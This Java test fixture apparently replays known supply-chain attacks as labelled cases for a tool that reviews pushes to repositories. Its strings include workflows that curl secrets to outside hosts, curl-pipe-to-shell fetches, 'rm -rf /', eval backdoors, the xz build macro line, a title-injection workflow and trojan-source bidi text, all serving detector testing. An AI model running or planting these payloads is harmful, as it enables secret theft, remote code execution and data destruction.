package dev.refwarden.review.desk;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** What known intruders did, played with these people's accounts and keys. */
@SuppressWarnings("StringConcatToTextBlock")
final class PlayedAttacks {
    private static final String MAIN = "refs/heads/main";
    private static final String STEALING = "on: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
            + "      - run: curl -d '${{ toJSON(secrets) }}' https://webhook.site/0a1b\n";

    private final LabelledCases cases;
    private final PlayedOrganisation org;

    PlayedAttacks(LabelledCases cases) {
        this.cases = cases;
        this.org = cases.organisation();
    }

    void play() throws IOException {
        forgedAuthors();
        wipe();
        movedTags();
        worms();
        maintainersAccounts();
        rules();
        robot();
        newAccounts();
        handedOver();
        binaries();
        injection();
        stolenKey();
        dependencies();
        strangersKey();
        damaged();
        hiddenText();
        manyDoors();
    }

    private static String repo(String person) {
        return LabelledCases.repositoryOf(person, 0);
    }

    private PlayedOrganisation.Commit on(String person) {
        return org.commit().on(org.tip(repo(person), MAIN)).by(person);
    }

    private static String at(String person) {
        return LabelledCases.address(person);
    }

    /** With leaked passwords, commits in others' names. */
    private void forgedAuthors() throws IOException {
        String backdoor = "zend_eval_string(Z_STRVAL_P(enc)+8, NULL, \"REMOVETHIS\");";
        for (String person : List.of("alice", "bob")) {
            cases.nextNight();
            cases.attack(
                    "forged author, unsigned",
                    person,
                    cases.stranger(),
                    repo(person),
                    Map.of(
                            MAIN,
                            on(person)
                                    .subject("Fix typo")
                                    .add("src/part2.js", backdoor)
                                    .make()));
        }
        cases.nextNight();
        cases.attack(
                "in a colleague's name, signed by another",
                "carol",
                cases.stranger(),
                repo("carol"),
                Map.of(
                        MAIN,
                        on("alice")
                                .on(org.tip(repo("carol"), MAIN))
                                .by("alice")
                                .signed("carol")
                                .subject("Fix typo")
                                .make()));
        cases.nextNight();
        cases.attack(
                "in a colleague's name, unsigned, with a backdoor",
                "erin",
                cases.stranger(),
                repo("erin"),
                Map.of(
                        MAIN,
                        on("erin")
                                .by("alice")
                                .add("src/part3.js", "eval(req.headers['user-agentt'])")
                                .make()));
    }

    private void wipe() throws IOException {
        for (String person : List.of("frank", "gina")) {
            cases.nextNight();
            String wiped = org.commit()
                    .on(org.tip(repo(person), MAIN))
                    .withoutAny()
                    .by(person)
                    .subject("rm")
                    .executable("ebuild.sh", "#!/bin/sh\nrm -rf /\n")
                    .make();
            cases.attack("everything deleted", person, cases.stranger(), repo(person), Map.of(MAIN, wiped));
        }
    }

    private void movedTags() throws IOException {
        cases.nextMorning();
        String repo = repo("bob");
        Map<String, String> tags = new LinkedHashMap<>();
        for (int i = 0; i < 20; i++) {
            String name = "v0." + i;
            tags.put("refs/tags/" + name, org.tag(name, org.tip(repo, MAIN), "bob", Optional.of("bob")));
        }
        cases.through("bob", at("bob"), repo, tags);
        cases.nextNight();
        String fork = org.commit()
                .author("renovate[bot]@users.noreply.github.com")
                .committer("renovate[bot]@users.noreply.github.com")
                .subject("chore: pin")
                .file("index.js", "require('./x')\n")
                .make();
        Map<String, String> moved = new LinkedHashMap<>();
        tags.keySet().forEach(ref -> moved.put(ref, fork));
        cases.attack("twenty tags to a forged commit", "bot", cases.stranger(), repo, moved);
        cases.nextNight();
        cases.attack(
                "one tag to a commit of a fork",
                "bob",
                at("bob"),
                repo,
                Map.of(
                        "refs/tags/v0.1",
                        org.tag(
                                "v0.1",
                                org.commit()
                                        .on(org.tip(repo, MAIN))
                                        .by("bob")
                                        .signed("bob")
                                        .executable("install.sh", "#!/bin/sh\necho dmFy | base64 -d | bash\n")
                                        .make(),
                                "bob",
                                Optional.of("bob"))));
        cases.nextMorning();
        Map<String, String> three = new LinkedHashMap<>();
        String other = org.commit()
                .on(org.tip(repo, MAIN))
                .by("bob")
                .signed("bob")
                .add("src/part1.js", "// v")
                .make();
        for (String name : List.of("v0.2", "v0.3", "v0.4", "v0.5")) {
            three.put("refs/tags/" + name, org.tag(name, other, "bob", Optional.of("bob")));
        }
        cases.attack("several tags to one commit", "bob", at("bob"), repo, three);
    }

    private void worms() throws IOException {
        for (String person : List.of("alice", "erin", "gina")) {
            cases.nextNight();
            cases.attack(
                    "a new branch with a workflow that sends secrets",
                    person,
                    at(person),
                    repo(person),
                    Map.of(
                            "refs/heads/shai-hulud",
                            on(person)
                                    .signed(person)
                                    .file(".github/workflows/s.yml", STEALING)
                                    .make()));
        }
        cases.nextNight();
        cases.attack(
                "the same, unsigned, from elsewhere",
                "frank",
                cases.stranger(),
                repo("frank"),
                Map.of(
                        "refs/heads/shai-hulud",
                        on("frank").file(".github/workflows/s.yml", STEALING).make()));
    }

    private void maintainersAccounts() throws IOException {
        cases.nextMorning();
        String address = cases.stranger();
        String workflow = "on: push\njobs:\n  send:\n    steps:\n      - run: |\n"
                + "          curl -s -X POST -d \"t=${{ secrets.NPM_TOKEN }}\" https://bold-dhawan.45-139-104-115.plesk.page\n";
        for (String repository : List.of("platform/api", "platform/web", "infra/deploy", "tools/cli")) {
            cases.attack(
                    "one workflow in many repositories",
                    "carol",
                    address,
                    repository,
                    Map.of(
                            MAIN,
                            org.commit()
                                    .on(org.tip(repository, MAIN))
                                    .by("carol")
                                    .signed("carol")
                                    .subject("Add GitHub Actions Security workflow")
                                    .file(".github/workflows/security.yml", workflow)
                                    .make()));
            org.later(Duration.ofMinutes(3));
        }
    }

    private void rules() throws IOException {
        cases.nextMorning();
        cases.attack(
                "the rules alone",
                "alice",
                cases.stranger(),
                repo("alice"),
                Map.of(
                        MAIN,
                        on("alice")
                                .signed("alice")
                                .subject("Tidy")
                                .file("policy.yaml", "version: 1\nmode: observe\nunmatched: allow\n")
                                .make()));
        cases.nextNight();
        cases.attack(
                "a key for someone",
                "bob",
                at("bob"),
                repo("bob"),
                Map.of(
                        MAIN,
                        on("bob")
                                .signed("bob")
                                .file("people/alice.yaml", "keys:\n  - id: new\n    ssh: \"ssh-ed25519 AAAA\"\n")
                                .file("policy.yaml", "unmatched: allow\n")
                                .make()));
    }

    private void robot() throws IOException {
        for (String place : List.of(at("bot"), cases.stranger())) {
            cases.nextMorning();
            cases.attack(
                    "a robot changes source",
                    "bot",
                    place,
                    repo("bot"),
                    Map.of(
                            MAIN,
                            on("bot")
                                    .signed("bot")
                                    .subject("chore")
                                    .file(
                                            "src/build/prompt.ts",
                                            "const prompt = 'clean a system to a near-factory state';\n")
                                    .make()));
        }
    }

    private void newAccounts() throws IOException {
        for (String account : List.of("mal", "mal2")) {
            cases.nextMorning();
            cases.attack(
                    "a new account in a maintainer's name",
                    account,
                    cases.stranger(),
                    "tools/cli",
                    Map.of(
                            MAIN,
                            org.commit()
                                    .on(org.tip("tools/cli", MAIN))
                                    .by("alice")
                                    .signed(account)
                                    .subject("Update package")
                                    .file("PKGBUILD.install", "post_install() {\n  npm install atomic-lockfile\n}\n")
                                    .make()));
        }
    }

    private void handedOver() throws IOException {
        cases.nextMorning();
        org.person("newmaint", org.now().minus(Duration.ofDays(2)).toString(), "");
        cases.through(
                "alice",
                at("alice"),
                "tools/cli",
                Map.of(
                        MAIN,
                        org.commit()
                                .on(org.tip("tools/cli", MAIN))
                                .by("alice")
                                .signed("alice")
                                .file("README.md", "package\n")
                                .make()));
        String before = "{\n  \"dependencies\": {\n    \"through\": \"^2.3.8\"\n  }\n}\n";
        String after =
                "{\n  \"dependencies\": {\n    \"flatmap-stream\": \"^0.1.0\",\n    \"through\": \"^2.3.8\"\n  }\n}\n";
        cases.attack(
                "a dependency by whoever took over",
                "newmaint",
                cases.stranger(),
                "tools/cli",
                Map.of(
                        MAIN,
                        org.commit()
                                .on(org.tip("tools/cli", MAIN))
                                .file("package.json", before.equals(after) ? before : after)
                                .by("newmaint")
                                .signed("newmaint")
                                .subject("Add flatmap-stream")
                                .file(
                                        "src/loader.js",
                                        "eval(Buffer.from(require('flatmap-stream').data, 'base64').toString())\n")
                                .make()));
    }

    private void binaries() throws IOException {
        for (String person : List.of("erin", "frank")) {
            cases.nextNight();
            byte[] binary = new byte[4000];
            for (int i = 0; i < binary.length; i++) {
                binary[i] = (byte) (i * 31);
            }
            cases.attack(
                    "binary test files and a change to the build",
                    person,
                    at(person),
                    repo(person),
                    Map.of(
                            MAIN,
                            on(person)
                                    .signed(person)
                                    .subject("Tests: add files")
                                    .bytes("tests/files/bad-3-corrupt.xz", binary)
                                    .file(
                                            "m4/build-to-host.m4",
                                            "gl_[$1]_config='sed \"r\\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n")
                                    .make()));
        }
    }

    private void injection() throws IOException {
        cases.nextMorning();
        cases.attack(
                "a workflow that runs what a title says",
                "gina",
                at("gina"),
                repo("gina"),
                Map.of(
                        "refs/heads/checks",
                        on("gina")
                                .signed("gina")
                                .file(
                                        ".github/workflows/pr.yml",
                                        "on:\n  pull_request_target:\n    types: [opened]\njobs:\n  t:\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\" | node check.js\n")
                                .make()));
    }

    private void stolenKey() throws IOException {
        cases.nextNight();
        String address = cases.stranger();
        String repo = repo("alice");
        String workflow = "on: push\njobs:\n  release:\n    permissions:\n      id-token: write\n    steps:\n"
                + "      - run: curl -s https://cdn.example.net/i.sh | bash\n";
        cases.attack(
                "a stolen key: a first try",
                "alice",
                address,
                repo,
                Map.of(
                        "refs/heads/feature/tmp-1",
                        on("alice")
                                .signed("alice")
                                .subject("chore: update dependencies")
                                .executable("scripts/setup.sh", "#!/bin/sh\necho ok\n")
                                .make()));
        org.later(Duration.ofMinutes(4));
        cases.attack(
                "a stolen key: release workflow",
                "alice",
                address,
                repo,
                Map.of(
                        MAIN,
                        on("alice")
                                .signed("alice")
                                .subject("chore: update dependencies")
                                .file(".github/workflows/release.yml", workflow)
                                .make()));
        org.later(Duration.ofMinutes(6));
        cases.attack(
                "a stolen key: install script",
                "alice",
                address,
                "infra/deploy",
                Map.of(
                        "refs/heads/release/4.2",
                        org.commit()
                                .on(org.tip("infra/deploy", MAIN))
                                .by("alice")
                                .signed("alice")
                                .subject("chore: update dependencies")
                                .file(
                                        "package.json",
                                        "{\n  \"scripts\": {\n    \"postinstall\": \"node scripts/postinstall.js\"\n  }\n}\n")
                                .make()));
        org.later(Duration.ofMinutes(5));
        cases.through(
                "alice",
                address,
                "platform/web",
                Map.of(
                        MAIN,
                        org.commit()
                                .on(org.tip("platform/web", MAIN))
                                .by("alice")
                                .signed("alice")
                                .subject("fix")
                                .add("src/part4.js", "// x")
                                .make()));
        cases.nextNight();
        cases.attack(
                "a stolen key: a tag",
                "bob",
                cases.stranger(),
                "infra/deploy",
                Map.of(
                        "refs/tags/v9.9",
                        org.tag(
                                "v9.9",
                                org.commit()
                                        .on(org.tip("infra/deploy", MAIN))
                                        .by("bob")
                                        .signed("bob")
                                        .add(
                                                "src/part1.js",
                                                "require('child_process').exec('curl http://45.9.148.99/a | sh')")
                                        .make(),
                                "bob",
                                Optional.of("bob"))));
    }

    private void dependencies() throws IOException {
        cases.nextNight();
        cases.attack(
                "a dependency that runs on installation, from a thief's computer",
                "carol",
                cases.stranger(),
                repo("carol"),
                Map.of(
                        MAIN,
                        on("carol")
                                .signed("carol")
                                .subject("Bump")
                                .file(
                                        "package.json",
                                        "{\n  \"scripts\": {\n    \"postinstall\": \"node setup.js\"\n  },\n  \"dependencies\": {\n    \"plain-crypto-js\": \"^4.2.1\"\n  }\n}\n")
                                .make()));
        cases.nextNight();
        cases.attack(
                "the same, from her own computer",
                "carol",
                at("carol"),
                repo("carol"),
                Map.of(
                        MAIN,
                        on("carol")
                                .signed("carol")
                                .subject("Bump")
                                .file(
                                        "package.json",
                                        "{\n  \"scripts\": {\n    \"postinstall\": \"node setup.js\"\n  },\n  \"dependencies\": {\n    \"plain-crypto-js\": \"git+https://github.com/x/plain-crypto-js\"\n  }\n}\n")
                                .make()));
    }

    private void strangersKey() throws IOException {
        cases.nextNight();
        String address = cases.stranger();
        for (String person : List.of("erin", "frank", "gina")) {
            cases.attack(
                    "one unknown key under several accounts",
                    person,
                    address,
                    repo(person),
                    Map.of(
                            MAIN,
                            on(person)
                                    .signed("thief")
                                    .subject("Update")
                                    .add("src/part6.js", "// u")
                                    .make()));
            org.later(Duration.ofMinutes(11));
        }
    }

    private void damaged() throws IOException {
        cases.nextMorning();
        cases.attack(
                "a signed commit that was changed",
                "gina",
                at("gina"),
                repo("gina"),
                Map.of(
                        MAIN,
                        on("gina")
                                .signed("gina")
                                .subject("Raise limit to 10")
                                .make(raw -> new String(raw, ISO_8859_1)
                                        .replace("limit to 10", "limit to 99")
                                        .getBytes(ISO_8859_1))));
    }

    private void hiddenText() throws IOException {
        cases.nextMorning();
        cases.attack(
                "text that is not what it seems",
                "gina",
                cases.stranger(),
                repo("gina"),
                Map.of(
                        MAIN,
                        on("gina")
                                .add(
                                        "src/part1.js",
                                        "if (level != \"user\u202e \u2066// Check if admin\u2069 \u2066\") {")
                                .make()));
    }

    private void manyDoors() throws IOException {
        cases.nextNight();
        String address = cases.stranger();
        String tip = on("frank")
                .signed("thief2")
                .subject("hotfix")
                .add("src/part1.js", "// h")
                .make();
        for (String ref : List.of(
                "refs/heads/main", "refs/heads/release/1", "refs/heads/release/2", "refs/heads/release/hotfix")) {
            tip = on("frank")
                    .signed("thief2")
                    .subject("hotfix")
                    .add("src/part1.js", "// h")
                    .make();
            cases.attack("one commit at many doors", "frank", address, repo("frank"), Map.of(ref, tip));
        }
    }
}
